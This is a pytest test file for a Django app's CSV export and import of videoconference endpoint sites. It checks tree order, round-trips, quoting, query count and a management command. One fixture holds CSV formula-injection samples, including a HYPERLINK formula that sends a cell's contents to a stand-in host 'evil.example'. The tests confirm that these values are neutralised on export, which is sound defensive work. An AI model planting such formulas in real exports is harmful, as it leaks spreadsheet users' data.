import pytest
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext

from conferencing.endpoint_export import export_endpoints
from conferencing.endpoint_import import ImportReport, import_endpoints
from conferencing.models import Endpoint, Level
from tests.factories import EndpointFactory

HEADER = (
    "code,name,level,parent_code,organisation,address,dial_string,contact_phone,"
    "contact_email,active\r\n"
)


@pytest.fixture
def tree(db):
    centre = EndpointFactory(code="TW", name="Trung ương", level=Level.CENTRAL)
    hanoi = EndpointFactory(
        code="T01",
        name="Hà Nội, thủ đô",
        level=Level.PROVINCE,
        parent=centre,
        organisation='Văn phòng "UBND"',
        dial_string="sip:hanoi@vc.gov.vn",
        contact_phone="+84 24 3825 0000",
        contact_email="vp@hanoi.gov.vn",
    )
    EndpointFactory(code="A01", name="An Giang", level=Level.PROVINCE, parent=centre)
    EndpointFactory(
        code="X00004", name="Ba Đình", level=Level.COMMUNE, parent=hanoi, is_active=False
    )
    return centre


def test_export_endpoints_writes_the_import_format_in_tree_order(tree):
    text = export_endpoints()

    assert text == (
        HEADER + "TW,Trung ương,central,,,,,,,true\r\n"
        "A01,An Giang,province,TW,,,,,,true\r\n"
        'T01,"Hà Nội, thủ đô",province,TW,"Văn phòng ""UBND""",,sip:hanoi@vc.gov.vn,'
        "'+84 24 3825 0000,vp@hanoi.gov.vn,true\r\n"
        "X00004,Ba Đình,commune,T01,,,,,,false\r\n"
    )


def test_export_endpoints_of_a_queryset_writes_only_those_sites(tree):
    hanoi = Endpoint.objects.get(code="T01")

    text = export_endpoints(Endpoint.objects.within(hanoi))

    assert text.splitlines()[1:] == [
        'T01,"Hà Nội, thủ đô",province,TW,"Văn phòng ""UBND""",,sip:hanoi@vc.gov.vn,'
        "'+84 24 3825 0000,vp@hanoi.gov.vn,true",
        "X00004,Ba Đình,commune,T01,,,,,,false",
    ]


def test_export_endpoints_of_no_sites_is_the_header(db):
    text = export_endpoints()

    assert text == HEADER


def test_export_then_import_changes_nothing(tree):
    before = list(Endpoint.objects.order_by("pk").values())

    report = import_endpoints(export_endpoints().encode())

    assert report == ImportReport(created=0, updated=0, unchanged=4, skipped=0, written=True)
    assert list(Endpoint.objects.order_by("pk").values()) == before


def test_export_then_import_into_an_empty_database_rebuilds_the_tree(tree):
    text = export_endpoints()
    for endpoint in Endpoint.objects.order_by("-path"):
        endpoint.delete()

    report = import_endpoints(text.encode())

    assert (report.created, report.errors) == (4, [])
    assert export_endpoints() == text


@pytest.fixture
def formulas(tree):
    """Names and contacts a spreadsheet would run as formulas if written as they are."""
    EndpointFactory(
        code="F01",
        name='=HYPERLINK("http://evil.example/?"&A1,"Mở")',
        level=Level.PROVINCE,
        parent=tree,
        organisation="-abc",
        address="@SUM(1+1)",
        contact_phone="+84 24 0000 0000",
    )
    return tree


def test_export_endpoints_writes_formula_cells_as_text(formulas):
    text = export_endpoints()

    assert [line for line in text.splitlines() if line.startswith("F01,")] == [
        'F01,"\'=HYPERLINK(""http://evil.example/?""&A1,""Mở"")",province,TW,\'-abc,\'@SUM(1+1),,'
        "'+84 24 0000 0000,,true"
    ]


def test_export_then_import_keeps_formula_like_values(formulas):
    before = list(Endpoint.objects.order_by("pk").values())

    report = import_endpoints(export_endpoints().encode())

    assert report == ImportReport(created=0, updated=0, unchanged=5, skipped=0, written=True)
    assert list(Endpoint.objects.order_by("pk").values()) == before


def test_import_reads_a_neutralised_cell_as_its_value(tree):
    text = HEADER + "F02,'-abc,province,TW,'=x,,,'+84 24 3825 0000,,true\r\n"

    report = import_endpoints(text.encode())

    assert report.errors == []
    site = Endpoint.objects.get(code="F02")
    assert (site.name, site.organisation, site.contact_phone) == ("-abc", "=x", "+84 24 3825 0000")


@pytest.mark.parametrize("count", [1, 3])
def test_export_endpoints_costs_one_query(db, count):
    for n in range(count):
        EndpointFactory(code=f"T{n:02d}")

    with CaptureQueriesContext(connection) as queries:
        export_endpoints()

    assert len(queries) == 1


def test_export_endpoints_command_writes_stdout_without_byte_order_mark(tree, capsys):
    call_command("export_endpoints")

    out = capsys.readouterr().out
    assert out.startswith("code,name,level,")
    assert out.count("\n") == 5


def test_export_endpoints_command_writes_a_file_excel_reads(tree, tmp_path, capsys):
    path = tmp_path / "sites.csv"

    call_command("export_endpoints", path)

    assert path.read_bytes() == b"\xef\xbb\xbf" + export_endpoints().encode()
    assert capsys.readouterr().err == f"Đã ghi 4 điểm cầu vào {path}.\n"


def test_export_endpoints_command_file_imports_back_unchanged(tree, tmp_path, capsys):
    path = tmp_path / "sites.csv"
    call_command("export_endpoints", path)

    call_command("import_endpoints", path)

    assert capsys.readouterr().out == "Tạo mới 0, cập nhật 0, không thay đổi 4, bỏ qua 0.\n"
